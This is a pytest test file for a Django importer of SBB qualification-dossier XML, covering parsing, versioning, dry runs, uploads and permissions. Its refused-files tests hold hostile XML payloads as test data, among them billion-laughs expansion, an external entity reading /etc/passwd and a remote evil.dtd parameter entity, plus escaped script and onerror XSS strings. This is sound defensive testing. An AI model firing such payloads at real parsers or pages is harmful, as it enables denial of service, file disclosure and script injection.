"""The SBB XML importer against SBB's own exports (tests/data/sbb).

Expected werkproces codes and gedrag counts come from an independent reading of the XML in
this file, with the standard library's ElementTree and nothing from the importer.
"""

import datetime
import io
import json
import re
import xml.etree.ElementTree as ET
from io import StringIO
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse

from organisation.models import Enrolment, User
from qualifications.export import find_qualification
from qualifications.models import (
    Competentie,
    Criterion,
    Dossier,
    GeneriekOnderdeel,
    Kerntaak,
    KnowledgeItem,
    Qualification,
    TextAddition,
    Werkproces,
    WerkprocesCompetentie,
)
from qualifications.sbb.importer import Action, SbbImportError, import_sbb_xml
from qualifications.selectors import criteria_for, werkprocessen_of

DATA = Path(__file__).resolve().parents[1] / "data" / "sbb"
DIENSTVERLENING = DATA / "2755_Dienstverlening.xml"
PEDAGOGISCH_WERK = DATA / "2635_Pedagogisch_Werk.xml"
SAMPLES = [DIENSTVERLENING, PEDAGOGISCH_WERK]
SIX_CREBOS = ["25498", "25499", "25500", "25484", "25485", "25486"]

TREE_MODELS = [
    Dossier,
    Qualification,
    Kerntaak,
    Werkproces,
    Criterion,
    WerkprocesCompetentie,
    KnowledgeItem,
    TextAddition,
    GeneriekOnderdeel,
    Competentie,
]


# --- An independent reading of the XML -----------------------------------------------------


def bullets(text: str | None) -> list[str]:
    """Gedrag lines as SBB writes them: one "- " line per criterion, after a lead line such
    as "De beroepsbeoefenaar:" that once in a while has a dash in front of it too."""
    lines = [line.strip() for line in (text or "").splitlines() if line.strip()]
    if lines and lines[0].endswith(":"):
        lines = lines[1:]
    return [line[1:].strip() for line in lines if line.startswith("-")]


def expected_per_crebo(path: Path) -> dict[str, dict[str, int]]:
    """{profiel crebo: {werkproces code: number of gedrag lines that apply}}."""
    expected = {}
    # Our own sample files, read with plain ElementTree on purpose: nothing of the importer.
    root = ET.parse(path).getroot()  # noqa: S314
    for dossier in root.find("dossiers").findall("dossier"):
        profielen = dossier.find("profielen").findall("profiel")
        basis = []  # (code, basis count, {profiel nr: extra count})
        for kerntaak in dossier.find("basis").find("basistaken").find("basiskerntaken"):
            k = kerntaak.get("hoofdstuk")
            for wp in kerntaak.find("basiswerkprocessen").findall("werkproces"):
                gedrag = wp.find("werkprocesgedrag")
                extra = {}
                perprofiel = gedrag.find("werkprocesgedragperprofiel")
                for aanvullend in perprofiel.findall("aanvullend"):
                    nr = aanvullend.find("profiel").get("referentie")
                    extra[nr] = len(bullets(aanvullend.find("omschrijving").text))
                basis.append((f"B1-K{k}-W{wp.get('hoofdstuk')}", len(bullets(gedrag.text)), extra))
        for profiel in profielen:
            crebo = profiel.find("creboinformatie").find("crebo").text.strip()
            p = profiel.get("hoofdstuk")
            codes = {code: count + extra.get(profiel.get("nr"), 0) for code, count, extra in basis}
            for kerntaak in profiel.find("profielkerntaken").findall("kerntaak"):
                k = kerntaak.get("hoofdstuk")
                for wp in kerntaak.find("profielwerkprocessen").findall("werkproces"):
                    code = f"P{p}-K{k}-W{wp.get('hoofdstuk')}"
                    codes[code] = len(bullets(wp.find("werkprocesgedrag").text))
            expected[crebo] = codes
    return expected


def snapshot() -> dict[str, list[dict]]:
    """Every row of the dossier tree, every field: equal snapshots mean nothing changed."""
    return {model.__name__: list(model.objects.order_by("pk").values()) for model in TREE_MODELS}


def combined(first: Path, second_xml: str) -> bytes:
    """SBB's export of ``first`` with the <dossier> element of ``second_xml`` added to it."""
    base = first.read_text(encoding="utf-8-sig")
    extra = re.search(r"<dossier .*?</dossier>", second_xml, re.S).group(0)
    return base.replace("</dossiers>", extra + "\n  </dossiers>").encode("utf-8")


@pytest.fixture
def competenties(db):
    call_command("loaddata", "competenties", verbosity=0)


@pytest.fixture
def imported(competenties):
    return [import_sbb_xml(source=path) for path in SAMPLES]


# --- Both samples, every kwalificatie --------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("path", SAMPLES, ids=lambda p: p.stem)
def test_werkproces_codes_and_gedrag_counts_match_the_xml(imported, path):
    expected = expected_per_crebo(path)
    assert len(expected) == 3
    for crebo, codes in expected.items():
        qualification = Qualification.objects.get(crebo=crebo)
        werkprocessen = list(
            werkprocessen_of(qualification).order_by("kerntaak__position", "position")
        )
        assert [wp.code for wp in werkprocessen] == list(codes), crebo
        for werkproces in werkprocessen:
            count = criteria_for(qualification=qualification, werkproces=werkproces).count()
            assert count == codes[werkproces.code], (crebo, werkproces.code)


@pytest.mark.django_db
def test_profielen_numbered_as_in_the_document(imported):
    rows = Qualification.objects.order_by("dossier__code", "code").values_list(
        "dossier__code", "code", "crebo", "niveau", "title"
    )
    assert list(rows) == [
        ("23183", "P1", "25486", 3, "Pedagogisch medewerker kinderopvang"),
        ("23183", "P2", "25484", 4, "Gespecialiseerd pedagogisch medewerker"),
        ("23183", "P3", "25485", 4, "Onderwijsassistent"),
        ("23189", "P1", "25499", 2, "Medewerker facilitaire dienstverlening"),
        ("23189", "P2", "25498", 2, "Helpende Zorg en Welzijn"),
        ("23189", "P3", "25500", 2, "Medewerker sport en recreatie"),
    ]
    assert list(
        Kerntaak.objects.filter(dossier__code="23183").values_list("code", "part", "position")
    ) == [
        ("B1-K1", "basisdeel", 1),
        ("B1-K2", "basisdeel", 2),
        ("P1-K1", "profieldeel", 3),
        ("P2-K1", "profieldeel", 4),
        ("P2-K2", "profieldeel", 5),
        ("P3-K1", "profieldeel", 6),
        ("P3-K2", "profieldeel", 7),
    ]


@pytest.mark.django_db
def test_exact_gedrag_texts(imported):
    w1 = Werkproces.objects.get(kerntaak__dossier__code="23189", code="B1-K1-W1")
    p1 = Qualification.objects.get(crebo="25499")
    assert [c.text for c in criteria_for(qualification=p1, werkproces=w1)] == [
        "kiest de juiste materialen en middelen;",
        "volgt nauwkeurig instructies en aanwijzingen;",
        "vraagt om verduidelijking of hulp bij onduidelijkheden;",
        "verzamelt actief informatie over de werkuitvoering en aandachtspunten;",
        "stemt effectief af met collega's, leidinggevende of overig betrokkenen;",
        "plant werkzaamheden in een logische volgorde.",
    ]
    w8 = Werkproces.objects.get(kerntaak__dossier__code="23183", code="B1-K1-W8")
    gespecialiseerd = Qualification.objects.get(crebo="25484")
    kinderopvang = Qualification.objects.get(crebo="25486")
    lines = list(criteria_for(qualification=gespecialiseerd, werkproces=w8))
    assert lines[0].text == "kiest passende methode(n) om evaluatiegegevens te verzamelen;"
    assert [c.text for c in lines[7:]] == [
        "beoordeelt ‘conclusies’ op relevantie en prioriteit;",
        "formuleert realistische voorstellen tot verbetering/verandering;",
        "schrijft een inhoudelijk juist en gestructureerd evaluatieverslag.",
    ]
    assert all(c.qualification == gespecialiseerd for c in lines[7:])
    assert all(c.qualification is None for c in lines[:7])
    # Another profiel's additions never reach this kwalificatie.
    assert criteria_for(qualification=kinderopvang, werkproces=w8).count() == 7
    # The lead line is an intro, not a criterion, even where SBB put a dash before it.
    assert not Criterion.objects.filter(text__startswith="De ").exists()
    w6 = Werkproces.objects.get(kerntaak__dossier__code="23183", code="P1-K1-W6")
    assert [c.text for c in w6.criteria.all()] == [
        "werkt veilig en hygiënisch;",
        "voert de werkzaamheden vlot en bedreven uit;",
        "gebruikt materialen en middelen op een doeltreffende en verantwoorde manier.",
    ]


def test_export_qualification_shows_additions(imported):
    out = StringIO()
    call_command("export_qualification", "25485", stdout=out)
    data = json.loads(out.getvalue())
    wps = {wp["code"]: wp for kt in data["kerntaken"] for wp in kt["werkprocessen"]}
    assert wps["B1-K2-W2"]["gedrag"][-3:] == [
        "motiveert anderen om zich te houden aan de voorgeschreven protocollen rondom "
        "kwaliteitszorg;",
        "brengt tijdig knelpunten naar voren;",
        "brengt verbetervoorstellen met overtuigingskracht.",
    ]
    assert data["generieke_onderdelen"] == [
        "Nederlandse taal",
        "Rekenen",
        "Loopbaan en burgerschap",
        "Engels (alleen voor niveau 4)",
    ]
    for crebo in SIX_CREBOS:
        out = StringIO()
        call_command("export_qualification", crebo, stdout=out)
        assert json.loads(out.getvalue())["kwalificatie"]["crebo"] == crebo


@pytest.mark.django_db
def test_competenties_resolved_through_the_files_list(imported):
    w1 = Werkproces.objects.get(kerntaak__dossier__code="23189", code="B1-K1-W1")
    assert [link.competentie.code for link in w1.competentie_links.order_by("position")] == [
        "E",  # 3088 Samenwerken en overleggen
        "K",  # 3094 Vakdeskundigheid toepassen
        "Q",  # 3100 Plannen en organiseren
        "T",  # 3103 Instructies en procedures opvolgen
    ]
    w2 = Werkproces.objects.get(kerntaak__dossier__code="23183", code="B1-K2-W2")
    links = w2.competentie_links.order_by("position").select_related("qualification")
    assert [
        (link.competentie.code, link.qualification and link.qualification.crebo) for link in links
    ] == [
        ("T", None),
        ("S", None),
        ("H", "25484"),
        ("H", "25485"),
        ("T", "25485"),
    ]
    assert Competentie.objects.count() == 25


@pytest.mark.django_db
def test_competenties_created_from_the_file_when_not_loaded(db):
    import_sbb_xml(source=DIENSTVERLENING)
    assert Competentie.objects.get(code="R").title == (
        'Op de behoeften en verwachtingen van de "klant" richten'
    )
    assert Competentie.objects.get(code="R").sbb_nr == 3101


@pytest.mark.django_db
def test_dossier_fields_additions_knowledge_and_generieke_onderdelen(imported):
    dossier = Dossier.objects.get(code="23183")
    assert dossier.version == 1
    assert dossier.title == "Pedagogisch Werk"
    assert dossier.status == Dossier.Status.VASTGESTELD
    assert dossier.valid_from == datetime.date(2015, 8, 1)
    assert dossier.validated_on == datetime.date(2015, 11, 26)
    assert dossier.end_of_intake is None
    assert dossier.opleidingsdomein == "Zorg en welzijn"
    assert dossier.opleidingsdomein_crebo == "79140"
    assert dossier.sectorkamer == "Sectorkamer zorg, welzijn en sport"
    assert dossier.typering.startswith("Context\n\nDe pedagogisch werker is breed inzetbaar")
    assert len(dossier.content_hash) == 64

    b1k2 = Kerntaak.objects.get(dossier=dossier, code="B1-K2")
    additions = {
        (a.field, a.qualification.code, a.werkproces and a.werkproces.code)
        for a in b1k2.additions.select_related("qualification", "werkproces")
    }
    assert additions == {
        ("complexiteit", "P1", None),
        ("complexiteit", "P2", None),
        ("complexiteit", "P3", None),
        ("verantwoordelijkheid", "P2", None),
        ("omschrijving", "P2", "B1-K2-W2"),
        ("omschrijving", "P3", "B1-K2-W2"),
    }
    # Empty per-profiel blocks are not additions.
    assert not TextAddition.objects.filter(text="").exists()
    knowledge = list(b1k2.knowledge.values_list("qualification__code", "text"))
    assert knowledge[:2] == [
        (None, "heeft kennis van kwaliteitszorg(systemen)"),
        (None, "kan reflecteren op haar eigen handelen in relatie tot haar werkzaamheden"),
    ]
    assert (
        "P1",
        "heeft algemene kennis van het werkveld kinderopvang",
    ) in knowledge
    onderdelen = list(dossier.generieke_onderdelen.values_list("title", "min_niveau"))
    assert onderdelen == [
        ("Nederlandse taal", None),
        ("Rekenen", None),
        ("Loopbaan en burgerschap", None),
        ("Engels (alleen voor niveau 4)", 4),
    ]
    engels = dossier.generieke_onderdelen.get(min_niveau=4)
    assert engels.text.endswith(
        "lezen en luisteren: B1;\nschrijven, spreken en gesprekken voeren: A2."
    )


@pytest.mark.django_db
def test_no_markup_survives(imported):
    texts = []
    for model, fields in [
        (Dossier, ["title", "typering"]),
        (Qualification, ["title", "typering"]),
        (Kerntaak, ["title", "complexiteit", "verantwoordelijkheid"]),
        (Werkproces, ["title", "omschrijving", "resultaat"]),
        (Criterion, ["text"]),
        (KnowledgeItem, ["text", "category"]),
        (TextAddition, ["text"]),
        (GeneriekOnderdeel, ["title", "text"]),
    ]:
        for row in model.objects.values_list(*fields):
            texts += row
    assert texts
    for text in texts:
        assert "<" not in text and "&lt;" not in text and "&amp;" not in text, text
        assert text == text.strip()


# --- Versions --------------------------------------------------------------------------------


@pytest.mark.django_db
def test_reimport_changes_nothing(imported):
    before = snapshot()
    for path in SAMPLES:
        report = import_sbb_xml(source=path)
        assert [o.action for o in report.dossiers] == [Action.UNCHANGED]
    assert snapshot() == before


def changed_dienstverlening() -> bytes:
    text = DIENSTVERLENING.read_text(encoding="utf-8-sig")
    assert text.count("- kiest de juiste materialen en middelen;") == 1
    return text.replace(
        "- kiest de juiste materialen en middelen;",
        "- kiest de juiste en duurzame materialen en middelen;",
    ).encode("utf-8")


@pytest.mark.django_db
def test_changed_dossier_with_students_becomes_a_new_version(imported):
    student = User.objects.create_user(username="s1", password="x", role=User.Role.STUDENT)
    v1_qualification = Qualification.objects.get(crebo="25499")
    Enrolment.objects.create(
        student=student, qualification=v1_qualification, started_on=datetime.date(2026, 9, 1)
    )
    before = snapshot()

    report = import_sbb_xml(source=io.BytesIO(changed_dienstverlening()))

    assert [(o.code, o.action, o.version) for o in report.dossiers] == [
        ("23189", Action.NEW_VERSION, 2)
    ]
    after = snapshot()
    # Version 1 and everything under it is exactly as it was.
    for name, rows in before.items():
        new_ids = {row["id"] for row in after[name]}
        old_rows = {row["id"]: row for row in after[name]}
        assert all(row["id"] in new_ids and old_rows[row["id"]] == row for row in rows), name
    v1 = Werkproces.objects.get(
        kerntaak__dossier__version=1, kerntaak__dossier__code="23189", code="B1-K1-W1"
    )
    v2 = Werkproces.objects.get(
        kerntaak__dossier__version=2, kerntaak__dossier__code="23189", code="B1-K1-W1"
    )
    assert v1.criteria.first().text == "kiest de juiste materialen en middelen;"
    assert v2.criteria.first().text == "kiest de juiste en duurzame materialen en middelen;"
    assert Enrolment.objects.get().qualification == v1_qualification
    # The newest version is what export_qualification finds by crebo.
    assert find_qualification("25499").dossier.version == 2

    # Importing the same changed file again changes nothing more.
    again = snapshot()
    assert import_sbb_xml(source=io.BytesIO(changed_dienstverlening())).dossiers[0].action == (
        Action.UNCHANGED
    )
    assert snapshot() == again


@pytest.mark.django_db
def test_changed_dossier_without_students_is_updated_in_place(imported):
    qualification_ids = set(
        Qualification.objects.filter(dossier__code="23189").values_list("pk", flat=True)
    )
    report = import_sbb_xml(source=io.BytesIO(changed_dienstverlening()))
    assert [(o.action, o.version) for o in report.dossiers] == [(Action.UPDATED, 1)]
    assert Dossier.objects.filter(code="23189").count() == 1
    # Kwalificaties keep their ids, so klassen that point at them stay valid.
    assert (
        set(Qualification.objects.filter(dossier__code="23189").values_list("pk", flat=True))
        == qualification_ids
    )
    w1 = Werkproces.objects.get(kerntaak__dossier__code="23189", code="B1-K1-W1")
    assert w1.criteria.first().text == "kiest de juiste en duurzame materialen en middelen;"
    assert Criterion.objects.filter(werkproces__kerntaak__dossier__code="23189").count() == 92


@pytest.mark.django_db
def test_dry_run_writes_nothing(competenties):
    before = snapshot()
    report = import_sbb_xml(source=PEDAGOGISCH_WERK, dry_run=True)
    assert report.dry_run
    assert [(o.code, o.action, o.werkprocessen) for o in report.dossiers] == [
        ("23183", Action.CREATED, 34)
    ]
    assert snapshot() == before


@pytest.mark.django_db
def test_dry_run_reports_a_change(imported):
    before = snapshot()
    report = import_sbb_xml(source=io.BytesIO(changed_dienstverlening()), dry_run=True)
    assert [o.action for o in report.dossiers] == [Action.UPDATED]
    assert snapshot() == before


@pytest.mark.django_db
def test_crebo_filter(competenties):
    both = combined(DIENSTVERLENING, PEDAGOGISCH_WERK.read_text(encoding="utf-8-sig"))
    report = import_sbb_xml(source=io.BytesIO(both), crebos=["25485"])
    assert [o.code for o in report.dossiers] == ["23183"]
    assert list(Dossier.objects.values_list("code", flat=True)) == ["23183"]
    with pytest.raises(SbbImportError, match="99999"):
        import_sbb_xml(source=io.BytesIO(both), crebos=["99999"])


@pytest.mark.django_db
def test_two_versions_of_one_dossier_in_one_file(competenties):
    both = combined(DIENSTVERLENING, changed_dienstverlening().decode("utf-8"))
    report = import_sbb_xml(source=io.BytesIO(both))
    assert [(o.action, o.version) for o in report.dossiers] == [
        (Action.CREATED, 1),
        (Action.NEW_VERSION, 2),
    ]
    before = snapshot()
    again = import_sbb_xml(source=io.BytesIO(both))
    assert [o.action for o in again.dossiers] == [Action.UNCHANGED, Action.UNCHANGED]
    assert snapshot() == before


# --- Other shapes of the same format ---------------------------------------------------------

OTHER_SHAPES = """<?xml version="1.0" encoding="utf-8"?>
<sbb xmlns="urn:example:sbb">
  <competenties>
    <competentie nr="3094" titel="Vakdeskundigheid toepassen" code="K" />
  </competenties>
  <dossiers>
    <dossier nr="5000" titel="Proefdossier" versie="2" status="Vastgesteld">
      <dossiercrebos>
        <dossiercrebo Geldig_vanaf="2024-08-01"
          Datum_einde_instroom="31-07-2026">29999</dossiercrebo>
      </dossiercrebos>
      <kennisenvaardigheden>
        <kennisofvaardigheid nr="1" titel="kan plannen" />
        <kennisofvaardigheid nr="2" titel="heeft kennis van archiveren" />
      </kennisenvaardigheden>
      <categoriekennisenvaardigheden>
        <categorie nr="10" titel="Archiveren" />
      </categoriekennisenvaardigheden>
      <basis>
        <basistaken><basiskerntaken>
          <kerntaak nr="100" titel="Basistaak" hoofdstuk="1.1">
            <vakkennisenvaardigheden>
              <vakkennisenvaardigheden referentie="1" />
              <vakkennisenvaardigheden_met_categorie>
                <categorie referentie="10"><vakkennisenvaardigheden referentie="2" /></categorie>
              </vakkennisenvaardigheden_met_categorie>
            </vakkennisenvaardigheden>
            <basiswerkprocessen>
              <werkproces nr="101" titel="Eerste" hoofdstuk="1.1.1">
                <werkprocesgedrag><![CDATA[&lt;p&gt;De beroepsbeoefenaar:&lt;/p&gt;&lt;ul&gt;
                  &lt;li&gt;plant het werk;&lt;/li&gt;
                  &lt;li&gt;werkt &lt;b&gt;netjes&lt;/b&gt;.&lt;/li&gt;&lt;/ul&gt;]]>
                <werkprocesgedragperprofiel>
                  <aanvullend><profiel referentie="201" /><profiel referentie="202" />
                  <omschrijving><![CDATA[\u2022 overlegt met de klant;]]></omschrijving>
                  </aanvullend>
                </werkprocesgedragperprofiel></werkprocesgedrag>
                <werkprocescompetenties><competentie referentie="3094" /></werkprocescompetenties>
              </werkproces>
              <werkproces nr="102" titel="Tweede" hoofdstuk="1.1.2">
                <werkprocesgedrag><![CDATA[De beroepsbeoefenaar:
\u2022 controleert de voorraad
  nauwkeurig;
\u2022 meldt tekorten.]]></werkprocesgedrag>
              </werkproces>
            </basiswerkprocessen>
          </kerntaak>
        </basiskerntaken></basistaken>
      </basis>
      <profielen>
        <profiel nr="201" titel="Eerste profiel" niveau="3">
          <creboinformatie><crebo>29991</crebo></creboinformatie>
          <profielkerntaken><kerntaak nr="300" titel="Profieltaak" hoofdstuk="1.1">
            <profielwerkprocessen><werkproces nr="301" titel="Profielwerk">
              <werkprocesgedrag><![CDATA[- doet het;]]></werkprocesgedrag>
            </werkproces></profielwerkprocessen>
          </kerntaak></profielkerntaken>
        </profiel>
        <profiel nr="202" titel="Tweede profiel" niveau="4">
          <creboinformatie><crebo>29992</crebo></creboinformatie>
        </profiel>
      </profielen>
    </dossier>
  </dossiers>
</sbb>
"""


@pytest.mark.django_db
def test_other_shapes_of_the_format(competenties):
    report = import_sbb_xml(source=io.BytesIO(OTHER_SHAPES.encode("utf-8")))
    assert report.dossiers[0].warnings == []
    dossier = Dossier.objects.get(code="29999")
    assert dossier.valid_from == datetime.date(2024, 8, 1)
    assert dossier.end_of_intake == datetime.date(2026, 7, 31)
    assert "versie 2" in dossier.source
    eerste, tweede = Qualification.objects.filter(dossier=dossier).order_by("code")
    assert (eerste.code, eerste.crebo, tweede.code, tweede.crebo) == ("P1", "29991", "P2", "29992")
    codes = list(
        Werkproces.objects.filter(kerntaak__dossier=dossier)
        .order_by("kerntaak__position", "position")
        .values_list("code", flat=True)
    )
    assert codes == ["B1-K1-W1", "B1-K1-W2", "P1-K1-W1"]
    w1 = Werkproces.objects.get(code="B1-K1-W1")
    assert [c.text for c in criteria_for(qualification=tweede, werkproces=w1)] == [
        "plant het werk;",
        "werkt netjes.",
        "overlegt met de klant;",
    ]
    w2 = Werkproces.objects.get(code="B1-K1-W2")
    assert [c.text for c in w2.criteria.all()] == [
        "controleert de voorraad nauwkeurig;",
        "meldt tekorten.",
    ]
    assert list(
        KnowledgeItem.objects.filter(kerntaak__dossier=dossier).values_list("category", "text")
    ) == [("", "kan plannen"), ("Archiveren", "heeft kennis van archiveren")]
    assert w1.competentie_links.get().competentie.code == "K"


# --- Refused files, and nothing changes ------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<sbb><dossiers><dossier nr="1" titel="&lol4;"/></dossiers></sbb>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE sbb [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<sbb><dossiers><dossier nr="1" titel="&xxe;"/></dossiers></sbb>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE sbb [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<sbb/>"""

PLAIN_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE sbb SYSTEM "sbb.dtd">
<sbb><dossiers/></sbb>"""


@pytest.mark.django_db
@pytest.mark.parametrize(
    "content",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY, PLAIN_DTD],
    ids=["billion-laughs", "external-entity", "parameter-entity", "dtd"],
)
def test_hostile_xml_is_refused_and_nothing_changes(imported, content):
    before = snapshot()
    with pytest.raises(SbbImportError) as info:
        import_sbb_xml(source=io.BytesIO(content))
    assert "veiligheidsredenen" in info.value.message
    assert "root:" not in info.value.message
    assert snapshot() == before


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("content", "fragment"),
    [
        (b"<sbb><dossiers><dossier nr='1'></dossiers></sbb>", "regel 1, kolom"),
        (b"", "geen geldige XML"),
        (b"dit is geen xml", "geen geldige XML"),
        (b"<html><body>hallo</body></html>", "verwacht <sbb>"),
        (b"<sbb><dossiers/></sbb>", "geen kwalificatiedossiers"),
    ],
    ids=["unclosed-tag", "empty", "not-xml", "wrong-root", "no-dossiers"],
)
def test_malformed_xml_is_refused_with_a_clear_message(imported, content, fragment):
    before = snapshot()
    with pytest.raises(SbbImportError) as info:
        import_sbb_xml(source=io.BytesIO(content))
    assert fragment in info.value.message
    assert snapshot() == before


@pytest.mark.django_db
def test_truncated_export_reports_line_and_column(imported):
    before = snapshot()
    truncated = PEDAGOGISCH_WERK.read_bytes()[:50_000]
    with pytest.raises(SbbImportError, match=r"regel \d+, kolom \d+"):
        import_sbb_xml(source=io.BytesIO(truncated))
    assert snapshot() == before


@pytest.mark.django_db
def test_oversized_file_is_refused(imported, settings):
    settings.SBB_XML_MAX_BYTES = 10_000
    before = snapshot()
    with pytest.raises(SbbImportError, match="te groot"):
        import_sbb_xml(source=PEDAGOGISCH_WERK)
    # A stream that does not say its size is cut off while it is read.
    with pytest.raises(SbbImportError, match="te groot"):
        import_sbb_xml(source=io.BufferedReader(io.BytesIO(PEDAGOGISCH_WERK.read_bytes())))
    assert snapshot() == before


@pytest.mark.django_db
def test_failure_in_second_dossier_rolls_back_the_first(competenties):
    before = snapshot()
    second = PEDAGOGISCH_WERK.read_text(encoding="utf-8-sig")
    # Well-formed, but the second dossier has no crebo.
    no_crebo = re.sub(r"(<dossiercrebo [^>]*>)23183<", r"\1<", second)
    with pytest.raises(SbbImportError, match="geen dossiercrebo"):
        import_sbb_xml(source=io.BytesIO(combined(DIENSTVERLENING, no_crebo)))
    assert snapshot() == before
    # Not well-formed inside the second dossier: the first was already written, then undone.
    broken = second.replace("<werkprocesresultaat>", "<werkprocesresultaat><kapot>", 1)
    with pytest.raises(SbbImportError, match="geen geldige XML"):
        import_sbb_xml(source=io.BytesIO(combined(DIENSTVERLENING, broken)))
    assert snapshot() == before


@pytest.mark.django_db
def test_escaped_script_does_not_survive(competenties):
    text = DIENSTVERLENING.read_text(encoding="utf-8-sig")
    text = text.replace(
        "- kiest de juiste materialen en middelen;",
        "- kiest &lt;script&gt;alert('x')&lt;/script&gt;de &lt;b onclick=&quot;x()&quot;&gt;"
        "juiste&lt;/b&gt; materialen en middelen;",
    )
    text = text.replace(
        'titel="Bereidt werkzaamheden voor en stemt af"',
        'titel="Bereidt &lt;script&gt;alert(1)&lt;/script&gt;werkzaamheden voor en stemt af"',
    )
    text = text.replace(
        "<werkprocesresultaat><![CDATA[De werkzaamheden zijn juist voorbereid.",
        "<werkprocesresultaat><![CDATA[&amp;lt;img src=x onerror=alert(1)&amp;gt;"
        "&lt;style&gt;p{}&lt;/style&gt;De werkzaamheden zijn juist voorbereid.",
    )
    import_sbb_xml(source=io.BytesIO(text.encode("utf-8")))
    w1 = Werkproces.objects.get(code="B1-K1-W1")
    assert w1.title == "Bereidt werkzaamheden voor en stemt af"
    assert w1.criteria.first().text == "kiest de juiste materialen en middelen;"
    assert w1.resultaat == "De werkzaamheden zijn juist voorbereid."
    for text in Criterion.objects.values_list("text", flat=True):
        # "handelt alert" is Dutch; "alert(" is not.
        assert "script" not in text and "alert(" not in text and "<" not in text


# --- Management command ----------------------------------------------------------------------


@pytest.mark.django_db
def test_command_prints_a_line_per_dossier(competenties):
    out = StringIO()
    call_command("import_sbb_xml", str(DIENSTVERLENING), stdout=out)
    assert "23189 Dienstverlening: aangemaakt (versie 1)" in out.getvalue()
    assert "3 kwalificaties (25499, 25498, 25500), 18 werkprocessen, 92 gedragscriteria" in (
        out.getvalue()
    )
    out = StringIO()
    call_command("import_sbb_xml", str(DIENSTVERLENING), "--dry-run", stdout=out)
    assert "ongewijzigd" in out.getvalue() and "Proefdraai" in out.getvalue()


@pytest.mark.django_db
def test_command_fails_with_the_message(competenties, tmp_path):
    hostile = tmp_path / "hostile.xml"
    hostile.write_bytes(EXTERNAL_ENTITY)
    with pytest.raises(CommandError, match="veiligheidsredenen"):
        call_command("import_sbb_xml", str(hostile))
    with pytest.raises(CommandError, match="niet gevonden"):
        call_command("import_sbb_xml", str(tmp_path / "missing.xml"))
    assert not Dossier.objects.exists()


# --- Upload page -----------------------------------------------------------------------------

URL = "qualifications:sbb_import"


def upload(content: bytes, name: str = "export.xml") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/xml")


@pytest.mark.django_db
def test_beheerder_uploads_and_sees_the_summary(client, make_user, competenties):
    client.force_login(make_user("beheer", User.Role.BEHEERDER))
    page = client.get(reverse(URL))
    assert page.status_code == 200
    assert 'enctype="multipart/form-data"' in page.content.decode()

    response = client.post(reverse(URL), {"file": upload(PEDAGOGISCH_WERK.read_bytes())})
    # Post, redirect, get: the report is shown once, on the page after the import.
    assert response.status_code == 302 and response["Location"] == reverse(URL)
    html = client.get(reverse(URL)).content.decode()
    assert '<th scope="row">23183</th>' in html
    assert "aangemaakt" in html and "25486, 25484, 25485" in html
    assert Dossier.objects.filter(code="23183", version=1).exists()

    assert '<th scope="row">23183</th>' not in client.get(reverse(URL)).content.decode()
    again = client.post(reverse(URL), {"file": upload(PEDAGOGISCH_WERK.read_bytes())}, follow=True)
    assert "ongewijzigd" in again.content.decode()


@pytest.mark.django_db
def test_upload_dry_run_writes_nothing(client, make_user, competenties):
    client.force_login(make_user("beheer", User.Role.BEHEERDER))
    response = client.post(
        reverse(URL), {"file": upload(DIENSTVERLENING.read_bytes()), "dry_run": "on"}, follow=True
    )
    assert response.status_code == 200
    assert "zou worden aangemaakt" in response.content.decode()
    assert not Dossier.objects.exists()


@pytest.mark.django_db
def test_upload_errors_are_shown_on_the_form(client, make_user, competenties):
    client.force_login(make_user("beheer", User.Role.BEHEERDER))
    response = client.post(reverse(URL), {"file": upload(EXTERNAL_ENTITY)})
    assert response.status_code == 200
    html = response.content.decode()
    assert "veiligheidsredenen" in html and "er is niets veranderd" in html
    response = client.post(reverse(URL), {"file": upload(b"<sbb><dossiers>")})
    assert "geen geldige XML" in response.content.decode()
    assert not Dossier.objects.exists()


@pytest.mark.django_db
def test_upload_too_large(client, make_user, competenties, settings):
    client.force_login(make_user("beheer", User.Role.BEHEERDER))
    # Declared far beyond the limit: refused before the body is read.
    settings.SBB_XML_MAX_BYTES = 1_000
    response = client.post(reverse(URL), {"file": upload(DIENSTVERLENING.read_bytes())})
    assert response.status_code == 413
    assert "te groot" in response.content.decode()
    # Just over the limit: refused by the form.
    settings.SBB_XML_MAX_BYTES = 100_000
    response = client.post(reverse(URL), {"file": upload(DIENSTVERLENING.read_bytes())})
    assert response.status_code == 200
    assert "te groot" in response.content.decode()
    assert not Dossier.objects.exists()


@pytest.mark.django_db
def test_superuser_may_import(client, make_user):
    admin = make_user("root", User.Role.DOCENT)
    admin.is_superuser = True
    admin.save()
    client.force_login(admin)
    assert client.get(reverse(URL)).status_code == 200


@pytest.mark.django_db
@pytest.mark.parametrize(
    "role", [User.Role.STUDENT, User.Role.PRAKTIJKOPLEIDER, User.Role.DOCENT, User.Role.ASSESSOR]
)
def test_everybody_else_gets_404(client, make_user, competenties, role):
    client.force_login(make_user("someone", role))
    assert client.get(reverse(URL)).status_code == 404
    response = client.post(reverse(URL), {"file": upload(DIENSTVERLENING.read_bytes())})
    assert response.status_code == 404
    assert not Dossier.objects.exists()


@pytest.mark.django_db
def test_anonymous_is_sent_to_login(client):
    response = client.get(reverse(URL))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


@pytest.mark.django_db
def test_other_methods_not_allowed(client, make_user):
    client.force_login(make_user("beheer", User.Role.BEHEERDER))
    assert client.put(reverse(URL)).status_code == 405
